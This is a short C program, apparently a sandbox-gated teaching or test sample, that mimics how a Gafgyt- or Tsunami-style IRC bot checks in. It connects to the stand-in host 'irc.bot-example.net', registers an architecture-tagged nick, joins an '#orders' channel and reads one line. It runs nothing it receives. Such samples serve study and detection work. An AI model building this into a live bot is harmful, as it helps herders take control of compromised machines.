// SPDX-License-Identifier: MIT
// An IRC bot (the Gafgyt and Tsunami kind): resolves its server, registers
// a nick made of the host's kind and a number, joins the channel its
// herder gives orders in, and reads one line.
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "box_only.h"

int main(void)
{
	const char *hello =
	    "NICK [x86|4821]\r\nUSER x86 0 * :bot\r\nJOIN #orders key7\r\n";
	struct addrinfo hint = {.ai_family = AF_INET,
				.ai_socktype = SOCK_STREAM},
			*ai = NULL;
	char line[256];
	int fd;
	if (!in_box())
		return 1;
	if (getaddrinfo("irc.bot-example.net", "6667", &hint, &ai) != 0) {
		puts("no server");
		return 0;
	}
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) == 0 &&
	    write(fd, hello, strlen(hello)) > 0) {
		shutdown(fd, SHUT_WR);
		if (read(fd, line, sizeof line) < 0)
			line[0] = '\0';
	}
	if (fd >= 0)
		close(fd);
	freeaddrinfo(ai);
	return 0;
}
